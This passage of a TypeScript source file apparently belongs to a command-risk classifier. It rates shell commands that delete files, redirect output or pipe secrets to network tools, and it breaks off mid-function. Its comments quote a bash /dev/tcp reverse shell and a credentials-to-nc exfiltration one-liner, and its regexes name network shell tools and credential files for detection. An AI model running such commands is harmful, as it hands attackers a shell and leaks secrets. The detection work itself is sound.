// POSIX shell, PowerShell and cmd.exe commands that touch files, disks,
// permissions, processes, logs and the network.
import { keepsNewest } from '../readers/shell25';
import { detectEnv, pathKind, type PathKind } from '../context';
import { BACKUP_JOB_NAME, backupsStopped, f, type Finding, ladder, readSecret, snippet, unplacedRun } from '../findings';
import { hasFlag, optValue, positionals, SHELLS, type Cmd } from '../shell/parse';
import { readHttp, type HttpCall } from '../readers/http';
import { HOSTS_FILE, localHostsEntries, removesCheck } from '../readers/files';
import { appendedText } from '../readers/writes';
import { readOp, splitName } from '../readers/words';
import { ADMIN_PRINCIPAL, judge, M, type Verb } from '../meaning';
import { commandFamily, type Handler } from './types';
import { notDeployed, transportLowered } from './tls';
import { ownTable } from '../own';
import { withArgv } from './interpreters';
import { NETOS_LEAD } from './netos';
import { SECURITY_PACKAGE } from './packages';

const READ_ONLY = [
  'ls', 'll', 'dir', 'cat', 'type', 'less', 'more', 'head', 'tail', 'grep', 'egrep', 'fgrep', 'rg', 'ag', 'ack', 'fd',
  'tree', 'pwd', 'whoami', 'id', 'ps', 'top', 'htop', 'btop', 'df', 'du', 'free', 'uname', 'hostname', 'date', 'echo',
  'printf', 'wc', 'sort', 'uniq', 'cut', 'jq', 'yq', 'diff', 'cmp', 'stat', 'file', 'which', 'where', 'whereis', 'man',
  'help', 'nl', 'od', 'xxd', 'rev', 'hexdump', 'strings', 'column', 'tr', 'basename', 'dirname', 'realpath', 'readlink', 'lsof',
  'netstat', 'ss', 'ping', 'dig', 'nslookup', 'host', 'traceroute', 'uptime', 'w', 'who', 'last', 'env', 'printenv',
  'test', '[', '[[', 'true', 'false', 'sleep', 'seq', 'lsblk', 'blkid', 'mount', 'findmnt', 'vmstat', 'iostat', 'journalctl',
  'ausearch', 'aureport', 'aulast', 'aulastlog', // cls-benign19: audit records read
  'dmesg', 'getent', 'groups', 'locale', 'tput', 'tac', 'rev', 'fold', 'expand', 'paste', 'join', 'comm', 'md5sum',
  'sha256sum', 'sha1sum', 'shasum', 'base64', 'bat', 'exa', 'eza', 'pgrep', 'nproc', 'lscpu', 'arch', 'sw_vers',
  'systeminfo', 'tasklist', 'ipconfig', 'ifconfig', 'awk', 'sed', 'xmllint', 'cloc', 'tokei', 'wget', 'curl',
  'http', 'open', 'xdg-open', 'code', 'node', 'deno', 'ruby', 'go', 'java', 'tsc', 'eslint',
  'prettier', 'pytest', 'jest', 'vitest', 'mocha', 'tsx', 'ts-node', 'make', 'cmake', 'ctest', 'gcc', 'clang', 'mvn', 'gradle',
  // cls-benign15: more test runners (a test's name given to them, "-e 'refunds the charge'", names a test).
  'rspec', 'phpunit', 'nose2', 'tox', 'nox', 'behave', 'cucumber', 'ava',
  // cls-benign16: browser and mobile end-to-end runners (a spec's file name, "delete-account.cy.ts", names a test).
  'cypress', 'wdio', 'testcafe', 'karma', 'jasmine', 'bats',
  // cls-over17: Xcode's builder (build, test, archive, -exportArchive into a local folder) makes local build products.
  'xcodebuild',
  'dotnet', 'history', 'alias', 'export', 'set', 'unset', 'source', '.', 'cd', 'pushd', 'popd', 'clear', 'exit', 'read',
  'mkdir', 'touch', 'cp', 'mv', 'ln', 'tee', 'sponge', 'zip', 'unzip', 'gzip', 'gunzip', 'ssh', 'scp', 'sftp', 'rsync',
  // Makes a fresh, empty temp file or folder and prints its name.
  'mktemp',
  // Loop and function control: they only steer the script they are in.
  'break', 'continue', 'return', 'shift', ':', 'wait',
  // Variable declarations (local T=$1, readonly DIR=/x, declare -r): the script reader binds their values.
  'local', 'readonly', 'declare', 'typeset',
  // Editors and pagers open a file for a person; what they save is judged as a file edit.
  'vim', 'vi', 'nvim', 'nano', 'emacs', 'micro', 'hx', 'subl', 'mate', 'kate', 'gedit', 'view', 'most', 'tldr', 'whatis', 'apropos',
];

function describe(kind: PathKind, p: string): string {
  switch (kind) {
    case 'root':
      return `the whole filesystem (${p})`;
    case 'home':
      return `the home directory (${p})`;
    case 'cwd':
      return `the whole current directory (${p})`;
    case 'system':
      return `a system directory (${p})`;
    case 'device':
      return `a raw disk device (${p})`;
    default:
      return p;
  }
}

/** A path that names one file by a source, document or data extension (src/build.ts): -r changes nothing for a file. */
const FILE_NAME = /[^\\/*?]\.(?:ts|tsx|js|jsx|mjs|cjs|py|rb|go|rs|java|kt|cs|c|h|cpp|hpp|php|swift|sh|ps1|md|txt|json|ya?ml|toml|ini|cfg|conf|xml|html|css|scss|sql|csv|lock|sample|bak|tmp|log|orig|rej|patch|diff|png|jpe?g|gif|svg)$/i;

/** (cls-benign25) Package managers' lockfiles. */
const LOCKFILE_25 = /(?:^|[\\/])(?:package-lock\.json|npm-shrinkwrap\.json|yarn\.lock|pnpm-lock\.yaml|bun\.lockb?|Podfile\.lock|Gemfile\.lock|Cartfile\.resolved|Package\.resolved|poetry\.lock|Pipfile\.lock|uv\.lock|pdm\.lock|Cargo\.lock|composer\.lock|pubspec\.lock|mix\.lock|gradle\.lockfile|flake\.lock|\.terraform\.lock\.hcl|packages\.lock\.json|deno\.lock)$/;

const CATASTROPHIC: ReadonlySet<PathKind> = new Set(['root', 'home', 'cwd', 'device']);

/** Deleting these paths: level by path kind and recursion. */
/** A directory that holds backups (/var/backups, D:\\Backups, ~/db-backups), named as itself or as all its files. */
// One level below a backups directory (`/mnt/backups/postgres/*`) is still that store: its per-database folder.
const BACKUP_DIR = /(?:^|[\\/])[\w.-]*(?:backups?|bak)(?:[\\/][\w.-]+)?[\\/]?(?:\*(?:\.\*)?)?$/i;

/** (cls-shell19) `<backups dir>/*.ext` (one or two extensions, no name part): every backup of that kind there. Scratch kinds
 *  (a .tmp, .log, .lock or partial file) are not the backups. */
export function backupKindGlob(p: string): boolean {
  const m = /^(.+)[\\/]\*((?:\.[a-z0-9]{1,8}){1,2})$/i.exec(p);
  return m !== null && BACKUP_DIR.test(m[1] as string) && !/^\.(?:tmp|temp|log|lock|part|partial|pid|swp|ts|tsx|js|jsx|mjs|py|rb|go|rs|java|kt|cs|c|h|cpp|php|swift|md|txt|html|css|scss|sh|ps1|ya?ml|toml|ini|cfg|conf)$/i.test(m[2] as string);
}

/** Every entry of an absolute directory at least two levels deep (/srv/exports/*, C:/data/in/*.*): no name narrows it. */
const SERVER_DIR_ALL = /^(?:\/|[a-z]:\/)(?!tmp\/|var\/tmp\/|private\/tmp\/|dev\/shm\/)[^*?\s]+\/[^/*?\s]+\/\*(?:\.\*)?$/i;
/** Under a personal home (/home/ana/…, /Users/ana/…, C:/Users/ana/…): the user's own files, judged as before. */
const PERSONAL_DIR = /^(?:\/home\/|\/Users\/|[a-z]:\/Users\/|\/root\/)/i;

/** (cls-code18) The root of a cloud drive synced or mounted on this machine. */
const CLOUD_DRIVE_ROOT = /^(?:(?:~|\$home|\$env:userprofile|%userprofile%|\$userprofile|\/home\/[^/]+|\/users\/[^/]+|[a-z]:\/users\/[^/]+)\/(?:dropbox(?: \([^)/]*\))?|onedrive(?: - [^/]+)?|google ?drive|my drive|icloud ?drive|library\/mobile documents\/com~apple~clouddocs|box(?: sync)?)|\/content\/drive\/(?:my ?drive|shared drives\/[^/]+)|\/content\/drive)\/?\*?$/i;
export function deletionFinding(paths: readonly string[], recursive: boolean, force: boolean, how: string, sudo: boolean): Finding[] {
  const out: Finding[] = [];
  if (paths.length === 0) return [f('destructive', `deletes files (${how})`)];
  // (cls-benign25) Unity's Library is its import cache when removed with the editor's other caches (Temp, obj) of the same
  // project: `rm -rf Library Temp obj`. Alone, a relative Library may be a home's, and keeps its reading.
  const unity25 = paths.length > 1 && paths.some((x) => /^(?:\.\/)?Temp\/?$/.test(x)) && paths.some((x) => /^(?:\.\/)?(?:obj|Logs|UserSettings)\/?$/.test(x));
  for (const p of paths.slice(0, 12)) {
    if (unity25 && /^(?:\.\/)?(?:Library|Logs)\/?$/.test(p)) {
      out.push(f('reversible', `removes ${p}, the Unity editor's import cache or logs, regenerated when the project opens (${how})`));
      continue;
    }
    // The root of a Windows network share (\\\\fs01\\finance, its \\*) is all the storage it holds.
    if (recursive && /^(?:\\\\|\/\/)[^\\/]+[\\/][^\\/]+[\\/]?(?:\*(?:\.\*)?)?$/.test(p.trim())) {
      out.push(f('forbidden', `deletes everything on the network share ${p} (${how})`));
      continue;
    }
    let k = pathKind(p);
    // ~/.ssh/*: every file of a directory is as sensitive as the directory.
    if (k === 'normal' && /\/\*$/.test(p)) {
      const parent = pathKind(p.slice(0, -2));
      if (parent === 'secret' || parent === 'auditlog' || parent === 'dbfile' || parent === 'git' || parent === 'log') k = parent;
    }
    // dist/*.*, build\*.js, .cache/*: files of a build-output or scratch directory are as regenerable as it is.
    const globbed = k === 'normal' ? /^(.+)[\\/][^\\/]*\*[^\\/]*$/.exec(p) : null;
    if (globbed) {
      const parent = pathKind(globbed[1] as string);
      if (parent === 'regenerable' || parent === 'tmp') k = parent;
    }
    if (recursive && /^(?:~|\$home|\$env:userprofile|%userprofile%|\$userprofile|\/home\/[^/]+|\/users\/[^/]+|[a-z]:\/users\/[^/]+)\/(?:projects?|code|src|repos?|repositories|workspace|work|git|github|gitlab|dev|documents|desktop|pictures|photos|sites|go|workspaces|source(?:\/repos)?)\/?\*?$/i.test(p.replace(/\\/g, '/'))) {
      out.push(f('forbidden', `deletes a whole top-level work folder of the home directory (${p}) (${how})`));
    } else if (recursive && CLOUD_DRIVE_ROOT.test(p.replace(/\\/g, '/'))) {
      // (cls-code18) A cloud drive synced or mounted locally (~/Dropbox, ~/OneDrive, ~/Google Drive, iCloud Drive, Colab's
      // /content/drive/MyDrive): its root is every file of that account, and the deletion syncs to the service.
      out.push(f('forbidden', `deletes every file of a synced cloud drive (${p}) (${how})`));
    } else if (CATASTROPHIC.has(k) || (k === 'system' && recursive && !FILE_NAME.test(p))) {
      out.push(f('forbidden', `deletes ${describe(k, p)}${recursive ? ' recursively' : ''} (${how})`));
    } else if (k === 'system' || k === 'critical') {
      out.push(f('dangerous', `deletes a file the system or remote access depends on (${p})`));
    } else if (k === 'auditlog') {
      out.push(f('forbidden', `deletes security audit logs (${p})`));
    } else if (k === 'dbfile') {
      out.push(f('forbidden', `deletes live database files (${p})`));
    } else if (k === 'git') {
      out.push(f('dangerous', `deletes the repository's history (${p})`));
    } else if (k === 'regenerable' || k === 'tmp') {
      out.push(f('reversible', `removes ${p}, which is regenerated by a build or reinstall (${how})`));
    } else if (SCRATCH_GLOB.test(p) && !p.startsWith('..')) {
      // (cls-interp21) The project's scratch leftovers by extension (rm *.tmp, a loop or xargs over *.bak): nothing kept.
      out.push(f('reversible', `removes scratch leftovers of the project (${p})`));
    } else if (k === 'secret') {
      // Key material cannot be recreated: a key store, every key, or a private key is dangerous.
      if (recursive || /[*?]/.test(p) || /(?:^|\/)(?:\.ssh|\.gnupg|\.aws|\.kube|\.password-store)(?:\/|$)|(?:^|\/)id_\w+$|\.(?:pem|key|p12|pfx|jks|keystore|ppk|kdbx)$/i.test(p)) out.push(f('dangerous', `deletes keys or credentials that cannot be recreated (${p})`));
      else out.push(f('destructive', `deletes a credentials file (${p})`));
    } else if (k === 'log') {
      out.push(f(recursive || /[*?]/.test(p) ? 'dangerous' : 'destructive', `deletes system logs (${p})`));
    } else if ((recursive || /[\\/]\*$/.test(p)) && REPOS_DIR.test(p)) {
      // (lead15) A Git server's repository store: every repository hosted there (LABELS: a repository counts as a project).
      out.push(f('forbidden', `deletes every repository hosted in ${p} (${how})`));
    } else if ((recursive || /[\\/]\*$/.test(p)) && BACKUP_DIR.test(p)) {
      // A whole backup directory, or every file in it: all the backups kept there.
      out.push(f('forbidden', `deletes every backup in ${p} (${how})`));
    } else if (backupKindGlob(p)) {
      // (cls-shell19) Every file of one kind in a backup directory (/var/backups/mysql/*.sql.gz, D:\\SQLBackups\\*.bak): the
      // extension names what a backup is, not which ones, so every backup of that kind kept there.
      out.push(f('forbidden', `deletes every backup of its kind in ${p} (${how})`));
    } else if (recursive && !/(?:^|[\\/])\*\.[a-z0-9]{1,8}$/i.test(p) && !FILE_NAME.test(p)) {
      // rm -rf ./log/*.log names files by their extension: a set of files (below), not directories.
      out.push(f('dangerous', `deletes a directory and everything in it (${how})`, true));
    } else if (SERVER_DIR_ALL.test(p.replace(/\\/g, '/').replace(/\/\*\*(?:\/\*)?$/, '/*')) && !PERSONAL_DIR.test(p.replace(/\\/g, '/'))) {
      // Every entry of a directory outside the project and outside a personal home (/srv/exports/*, /var/www/uploads/*,
      // D:\shares\finance\*): everything the directory holds on a machine of unknown role, like rm -rf of the directory.
      out.push(f('dangerous', `deletes every file in ${p.replace(/[\\/]\*(?:\.\*)?$/, '')}, a directory outside the project (${how})`, true));
    } else if (/[*?]/.test(p)) {
      out.push(f('destructive', `deletes every file matching ${p} (${how})`, true));
    } else if (LOCKFILE_25.test(p) && !/^(?:\/|~|\$|[A-Za-z]:)/.test(p) && !p.includes('..')) {
      // (cls-benign25) A package manager's lockfile in the project (Podfile.lock, package-lock.json, poetry.lock …): tracked,
      // and written again by the next install.
      out.push(f('reversible', `removes ${p}, a lockfile the package manager writes again on the next install (${how})`));
    } else if (removesCheck(p)) {
      out.push(f('dangerous', `deletes a check the repository requires (${p})`));
    } else {
      out.push(f('destructive', `deletes ${p}${force ? ' without confirmation' : ''}`, true));
    }
  }
  if (sudo) for (const x of out) if (x.level === 'destructive') x.level = 'dangerous';
  return out;
}

/**
 * cls-benign15: `echo "LOG_LEVEL=debug" >> .env.development`: a dev or local environment file given settings whose
 * names and values are no credential (no secret, token, key, password, auth, DSN or URL).
 */
function plainDevSetting(cmd: Cmd, target: string): boolean {
  if ((cmd.name !== 'echo' && cmd.name !== 'printf') || !DEV_ENV_FILE.test(target)) return false;
  const text = cmd.args.filter((x) => !/^-[a-z]+$/.test(x)).join(' ');
  const pairs = text.split(/\s+|\\n/).filter(Boolean);
  return pairs.length > 0 && pairs.every((x) => PLAIN_SETTING.test(x));
}
/** cls-benign15: a dev, local or test dotenv file. */
export const DEV_ENV_FILE = /(?:^|\/)\.env\.(?:development|dev|local|test|testing)(?:\.local)?$/i;
/** cls-benign15: NAME=value where neither says credential. */
export const PLAIN_SETTING = /^(?![A-Z0-9_]*(?:SECRET|TOKEN|KEY|PASS|PWD|CREDENTIAL|AUTH|PRIVATE|DSN|URL|URI|SALT|COOKIE|SESSION|CERT|USER|LOGIN))[A-Z][A-Z0-9_]*=(?:[\w.:/-]{0,40}|"[\w .:/-]{0,40}"|'[\w .:/-]{0,40}')$/;

/** cls-benign17: text appended to the hosts file that only names development machines on local addresses. */
function devHostsAppend(cmd: Cmd, target: string): boolean {
  if (!HOSTS_FILE.test(target)) return false;
  const text = appendedText(cmd);
  return text !== null && localHostsEntries(text);
}

function redirectFindings(cmd: Cmd, emptyWrite: boolean): Finding[] {
  const out: Finding[] = [];
  // (\`bash -i >& /dev/tcp/h/p\`: the lexer keeps a target written after a spaced \`>&\` as a word, so a shell's word naming
  // a socket counts as that redirect.)
  const socketWord = SHELLS.has(cmd.name) && cmd.args.some((x) => /^\/dev\/(?:tcp|udp)\/[^/\s]+\/\d+/.test(x)) && !cmd.redirects.some((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target));
  if (socketWord) out.push(f(cmd.sudo ? 'forbidden' : 'dangerous', `hands a remote host an interactive shell on this machine (${snippet(cmd.text, 60)})`));
  for (const r of cmd.redirects) {
    // (lead16) bash's /dev/tcp and /dev/udp: a socket to another host. A shell whose input and output go there is a
    // remote shell handed to that host (`bash -i >& /dev/tcp/203.0.113.5/4444 0>&1`); any other output goes out to it.
    if (/^\/dev\/(?:tcp|udp)\/[^/\s]+\/\d+/.test(r.target)) {
      if (SHELLS.has(cmd.name)) out.push(f(cmd.sudo ? 'forbidden' : 'dangerous', `hands a remote host an interactive shell on this machine (${snippet(cmd.text, 60)})`));
      else if (!r.op.startsWith('<')) out.push(f('dangerous', `sends output to another host over a raw socket (${r.target})`));
      continue;
    }
    if (r.op.startsWith('<')) continue;
    const k = pathKind(r.target);
    const append = r.op.includes('>>');
    if (k === 'null' || r.target.startsWith('&')) continue;
    if (k === 'device') out.push(f('forbidden', `overwrites the raw disk device ${r.target}`));
    else if (k === 'auditlog') out.push(f('forbidden', `${append ? 'writes into' : 'erases'} a security audit log (${r.target})`));
    else if (append) {
      if ((k === 'critical' || k === 'system') && devHostsAppend(cmd, r.target)) out.push(f('reversible', `adds a local name for a development machine to the hosts file (${r.target})`));
      else if (k === 'critical' || k === 'system') out.push(f('dangerous', `appends to a system file (${r.target})`));
      else if (k === 'secret' && plainDevSetting(cmd, r.target)) out.push(f('reversible', `appends a setting that holds no credential to a dev environment file (${r.target})`));
      else if (k === 'secret') out.push(f('destructive', `writes into a credentials file (${r.target})`));
      else out.push(f('reversible', `appends output to ${r.target}`));
    } else if (k === 'critical' || k === 'system') out.push(f('dangerous', `overwrites a system file (${r.target})`));
    else if (k === 'dbfile') out.push(f('forbidden', `overwrites live database files (${r.target})`));
    else if (k === 'log') out.push(f('dangerous', `erases a system log (${r.target})`));
    else if (k === 'secret') out.push(f('destructive', `overwrites a credentials file (${r.target})`));
    // (cls-interp21) A temp or build file, or the project's own development log, emptied: as `truncate -s 0` of it.
    // (A source or document file of the project emptied (not its configuration, shell.test), `: > .gitkeep`, `echo "" > notes/todo.md`, is an edit in the repo.)
    else if (emptyWrite && inProject(r.target) && (/[^/]\.[a-z0-9]{1,10}$/i.test(r.target) && !PROJECT_DATA_EXT.test(r.target) || /(?:^|\/)\.(?:git)?keep$|(?:^|\/)\.gitignore$/i.test(r.target))) out.push(f('reversible', `empties ${r.target}, a file of the project`));
    else if (emptyWrite && (k === 'tmp' || k === 'regenerable' || devLogOfProject(r.target))) out.push(f('reversible', `empties ${r.target}, a temporary, generated or development log file`));
    else if (emptyWrite) out.push(f('destructive', `empties ${r.target} (the redirect truncates the file)`, true));
    else out.push(f('reversible', `writes output to ${r.target}`));
  }
  return out;
}

/** (cls-holes17) ssh options that take a value (as the script reader's list). */
const SSH_OPTS_VALUED: ReadonlySet<string> = new Set(['-i', '-p', '-l', '-o', '-F', '-J', '-L', '-R', '-D', '-W', '-b', '-c', '-e', '-m', '-S', '-w', '-E', '-B', '-O', '-Q', '-I']);
const NETWORK_SENDERS = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'http', 'https', 'telnet', 'ssh', 'scp', 'invoke-webrequest', 'invoke-restmethod', 'iwr', 'irm', 'ftp', 'sftp', 'openssl']);
const SECRET_COMMAND = /\b(?:get secrets?\b.*-o|get-secret-value|vault kv get|vault read|secrets versions access|keyvault secret show|get-parameters? .*--with-decryption|auth token)\b/;
const INTERPRETER_NAME = /^(?:python\d*(?:\.\d+)?|pypy3?|node|nodejs|deno|bun|ruby|jruby|perl|php|lua|luajit|rscript|julia|osascript|pwsh|powershell)$/;
const SECRET_IN_CODE = /\.ssh[\\/]id_(?:rsa|ed25519|ecdsa|dsa)\b(?!\.pub)|\.aws[\\/]credentials|\.kube[\\/]config|\.(?:netrc|pgpass|git-credentials|vault-token)\b|['"`/]\.env(?:\.[\w-]+)?['"`]|\b(?:environ|env|ENV|getenv)\W{1,3}[A-Z0-9_]*(?:SECRET|PASSWORD|TOKEN|PRIVATE_KEY|API_KEY|ACCESS_KEY)[A-Z0-9_]*/;
/** (cls-interp20) The whole environment in program code (not a count or the names only). */
const WHOLE_ENV_IN_CODE = /(?<!\b(?:len|keys|Object\.keys|count|sizeof|size)\(\s*)(?:\bos\.environ\b(?!\s*(?:\[|\.get\b|\.keys\b))|\bprocess\.env\b(?!\s*[.[])|\bENV\.(?:to_h|to_hash|inspect|to_a|each|each_pair)\b|%ENV\b|\$_ENV\b(?!\s*\[)|\bgetenv\(\s*\)|\bDeno\.env\.toObject\(\s*\)|\bBun\.env\b(?!\s*[.[])|\bSys\.getenv\(\s*\)|\bSystem\.getenv\(\s*\))/;
// (cls-holes15: a live or vendor key, $STRIPE_LIVE_KEY, $STRIPE_KEY, is one too.)
const SECRET_VAR = /\$\{?[A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|PASS\b|API_?KEY|PRIVATE_?KEY|CREDENTIALS?|ACCESS_?KEY|LIVE_?KEY|STRIPE_?KEY|AUTH|DATABASE_URL|DB_URL|DSN|CONNECTION_STRING|_URI\b|WEBHOOK)[A-Z0-9_]*\}?/;

/** Does this command print secret material (used for exfiltration and disclosure checks)? */
export function secretSource(cmd: Cmd): string | undefined {
  const n = cmd.name;
  if (n === 'printenv' || n === 'env' || n === 'set' || n === 'export') {
    const pos = positionals(cmd.args);
    if (pos.length === 0 || pos.some((p) => SECRET_VAR.test(`$${p}`))) return n;
  }
  // (cls-code16) PowerShell's environment drive listed whole (Get-ChildItem Env:, gci env:, dir env:*): every variable.
  if (/^(?:get-childitem|gci|dir|ls|get-item|gi)$/.test(n) && cmd.args.some((a) => /^env:[\\/]?\*?$/i.test(a))) return 'Env:';
  if (n === 'cat' || n === 'type' || n === 'less' || n === 'more' || n === 'head' || n === 'tail' || n === 'bat' || n === 'base64' || n === 'tar' || n === 'zip' || n === 'get-content' || n === 'gc' || n === 'xxd' || n === 'strings') {
    for (const p of cmd.args) if (pathKind(p) === 'secret') return p;
  }
  if ((n === 'echo' || n === 'printf') && cmd.args.some((a) => SECRET_VAR.test(a))) return cmd.args.find((a) => SECRET_VAR.test(a));
  if (SECRET_COMMAND.test(cmd.text)) return snippet(cmd.text, 30);
  // An interpreter one-liner that reads key material or a secret variable writes it out like cat (python -c "print(open('~/.aws/credentials').read())" | nc …).
  if (INTERPRETER_NAME.test(n) && SECRET_IN_CODE.test(cmd.text)) return snippet(SECRET_IN_CODE.exec(cmd.text)?.[0] ?? cmd.text, 30);
  // (cls-interp20) An interpreter one-liner that writes out the whole environment (print(dict(os.environ)),
  // console.log(JSON.stringify(process.env)), puts ENV.to_h, print for keys %ENV, var_dump(getenv())) is `env`.
  if (INTERPRETER_NAME.test(n) && WHOLE_ENV_IN_CODE.test(cmd.text)) return snippet(WHOLE_ENV_IN_CODE.exec(cmd.text)?.[0] ?? cmd.text, 30);
  if (NETWORK_SENDERS.has(n)) for (const a of cmd.args) if (a.includes('$(') && /\.ssh\/|\.aws\/|\.env\b|id_rsa|id_ed25519|credentials|printenv|\$\(env\)|\.npmrc|\.netrc/.test(a)) return snippet(a, 30);
  for (const a of cmd.args) {
    const at = /(?:^|=)@([^\s;]+)$/.exec(a);
    if (at && pathKind(at[1] as string) === 'secret') return at[1];
  }
  return undefined;
}

function isExternalUrl(s: string): boolean {
  return /^(?:https?|ftp):\/\//i.test(s) && !/^(?:https?):\/\/(?:localhost|127\.|0\.0\.0\.0|\[::1\]|host\.docker\.internal)/i.test(s);
}

/** An editor started with ex commands: a `:!cmd` (or `:r !cmd`, `:w !cmd`) runs cmd in the shell now. */
const editorEx: Handler = (cmd, ctx) => {
  const out: Finding[] = [];
  for (let i = 0; i < cmd.args.length; i++) {
    const x = cmd.args[i] as string;
    const ex = x === '-c' || x === '--cmd' ? cmd.args[i + 1] ?? '' : x.startsWith('+') ? x.slice(1) : '';
    const m = /^:?\s*(?:\d*\s*(?:r(?:ead)?|w(?:rite)?)\s*)?!(.+)$/.exec(ex.trim());
    if (m && ctx) out.push(...ctx.inner(m[1] as string).map((y) => ({ ...y, reason: `${y.reason} (run from ${cmd.name})` })));
  }
  return out;
};

/** Programs that post what they read to a chat or a mailbox. */
const MESSAGE_SENDERS = /^(?:slackcat|slack-cli|slack|teams|msteams|mail|mailx|mutt|sendmail|neomutt|telegram-send|discord-cli|notify-send-remote|ntfy|apprise)$/;

/** Checks a whole pipeline for remote-code execution and secret exfiltration. */
export function pipelineFindings(cmds: readonly Cmd[]): Finding[] {
  const out: Finding[] = [];
  for (const c of cmds) {
    const src = secretSource(c);
    if (src) {
      // Any later stage of the pipeline that talks to the network carries the secret out.
      for (let d = c.pipeOut; d; d = d.pipeOut) {
        if (NETWORK_SENDERS.has(d.name)) {
          out.push(f('forbidden', `sends secrets (${snippet(src, 30)}) to an external endpoint (${snippet(d.text, 50)})`));
          break;
        }
        // (lead17) Into a chat or mail sender (slackcat, slack-cli, mail, teams): the secret is shared with everyone
        // who reads it (LABELS: secrets shared; publishing stays for public places).
        if (MESSAGE_SENDERS.test(d.name)) {
          out.push(f('dangerous', `shares secrets (${snippet(src, 30)}) in a message (${snippet(d.text, 50)})`));
          break;
        }
      }
      if (NETWORK_SENDERS.has(c.name) && c.args.some(isExternalUrl)) out.push(f('forbidden', `uploads secrets (${snippet(src, 30)}) to an external endpoint`));
    }
  }
  return out;
}

// ------------------------------------------------------------------ handlers

const rm: Handler = (cmd) => {
  const a = cmd.args;
  if (a.includes('--help') || a.includes('--version')) return [f('safe', `only prints help text (${cmd.text})`)];
  const recursive = hasFlag(a, 'rR', '--recursive');
  const force = hasFlag(a, 'f', '--force');
  const paths = positionals(a);
  const out = deletionFinding(paths, recursive, force, snippet(cmd.text, 50), cmd.sudo);
  // (cls-shell25) …unless a time-sorted listing skips its newest lines first: a rotation (readers/shell25.ts).
  if (cmd.bulk && !keepsNewest(cmd)) for (const x of out) if (x.level === 'destructive') x.level = 'dangerous';
  return out;
};

const rmdir: Handler = (cmd) => {
  const a = cmd.args;
  // cmd.exe: rd /s /q dir
  if (a.some((x) => /^\/s$/i.test(x))) return deletionFinding(a.filter((x) => !x.startsWith('/') || x.length > 3), true, true, snippet(cmd.text, 50), cmd.sudo);
  return [f('reversible', `removes an empty directory (${cmd.text})`)];
};

const del: Handler = (cmd) => {
  const a = cmd.args;
  const recursive = a.some((x) => /^\/s$/i.test(x));
  const paths = a.filter((x) => !/^\/[a-z]$/i.test(x));
  return deletionFinding(paths, recursive, a.some((x) => /^\/f$/i.test(x)), snippet(cmd.text, 50), cmd.sudo);
};

const find: Handler = (cmd, ctx) => {
  const a = cmd.args;
  const execAt = a.findIndex((x) => x === '-exec' || x === '-execdir' || x === '-ok' || x === '-okdir');
  const deletes = a.includes('-delete');
  const root = a.find((x) => !x.startsWith('-') && !x.startsWith('(') && !x.startsWith('!')) ?? '.';
  const rootIsFirst = a[0] === root || a.length === 0;
  const start = rootIsFirst ? root : '.';
  const filters: string[] = [];
  for (let i = 0; i < a.length; i++) {
    const x = a[i] as string;
    if (/^-(i?name|i?path|i?regex|mtime|mmin|ctime|cmin|atime|amin|size|newer|user|group|perm|empty|links|inum|iwholename|wholename)$/.test(x)) {
      const v = a[i + 1] ?? '';
      if (!((x === '-name' || x === '-iname' || x === '-path') && (v === '*' || v === '*.*' || v === '.*'))) filters.push(`${x} ${v}`);
    }
  }
  let inner: Finding[] = [];
  if (execAt >= 0) {
    const rest = a.slice(execAt + 1);
    const stop = rest.findIndex((x) => x === ';' || x === '+' || x === '\\;');
    const line = (stop >= 0 ? rest.slice(0, stop) : rest).map((x) => (x === '{}' ? 'FILE' : x)).join(' ');
    inner = ctx.inner(line);
    // (cls-interp21) Permissions changed on files found by a name that names keys (find /home -name 'id_rsa*' -exec chmod
    // 644 {} +): the chmod acts on those keys.
    const named = a[a.findIndex((x) => x === '-name' || x === '-iname') + 1];
    if (named && /^(?:chmod|chown|setfacl)\b/.test(line) && pathKind(`/home/u/.ssh/${named.replace(/\*+$/, '')}`) === 'secret') inner = ctx.inner(line.replace(/\bFILE\b/, `'${start.replace(/\/+$/, '')}/${named.replace(/'/g, '')}'`));
  }
  const innerDeletes = inner.some((x) => /^deletes|^removes/.test(x.reason));
  if (!deletes && !innerDeletes) {
    if (execAt >= 0) return inner.map((x) => (x.level === 'destructive' ? f('dangerous', `runs on every file found: ${x.reason}`, true) : x));
    return [f('safe', `searches for files (${snippet(cmd.text, 50)})`)];
  }
  const k = pathKind(start);
  const how = snippet(cmd.text, 60);
  if ((CATASTROPHIC.has(k) || k === 'system') && filters.length === 0) {
    return [f('forbidden', `deletes everything under ${describe(k, start)} with no real filter (${how})`)];
  }
  const namePattern = filters.find((x) => /^-i?name /.test(x))?.slice(filters[0]?.startsWith('-iname') ? 7 : 6) ?? '';
  if (namePattern && pathKind(namePattern.replace(/^\*/, 'x')) === 'regenerable') {
    return [f('reversible', `deletes generated files (${how})`)];
  }
  if (k === 'auditlog') return [f('forbidden', `deletes security audit logs (${how})`)];
  if (k === 'tmp' || k === 'regenerable') return [f('reversible', `deletes temporary or generated files (${how})`)];
  // (cls-interp21) The project's own scratch files by name (find . -name '*.orig' -delete), or its logs older than an age
  // (find ./logs -name '*.log' -mtime +7 -delete; every log of the project stays confirm, precision.test): leftovers it makes again.
  if (((k === 'cwd' && start !== '..' && !start.startsWith('../')) || (k === 'normal' && !/^[/~$]/.test(start) && !start.startsWith('..'))) && (/^\*\.(?:tmp|temp|orig|rej|swp|bak|pyc|pyo)$/i.test(namePattern.replace(/['"]/g, '')) || (/^\*\.log$/i.test(namePattern.replace(/['"]/g, '')) && filters.some((x) => /^-(?:mtime|mmin|atime|amin|ctime|cmin) \+/.test(x)))) && filters.every((x) => /^-(?:i?name|mtime|mmin|atime|amin|ctime|cmin|size|empty)\b/.test(x))) return [f('reversible', `deletes the project's own scratch or log files (${how})`)];
  // Files of one type in the project (find . -name '*.log' -delete): the same set as rm *.log, recursively.
  if ((k === 'cwd' && start !== '..' && !start.startsWith('../')) || (k === 'normal' && !/^[/~$]/.test(start) && !start.startsWith('..'))) {
    if (filters.length === 1 && /^\*\.[a-z0-9]{1,8}$/i.test(namePattern)) return [f('destructive', `deletes every ${namePattern} file under ${start} (${how})`, true)];
  }
  if (CATASTROPHIC.has(k) || k === 'system' || k === 'log') return [f('dangerous', `bulk-deletes files under ${describe(k, start)} (${how})`, true)];
  // Every file of a backups directory, with no name, age or size test: every backup kept there, like `rm -rf` of it.
  // A name test that only picks the backup files themselves (*.dump, *.bak, *.sql.gz) keeps no backup either; an age test does (retention).
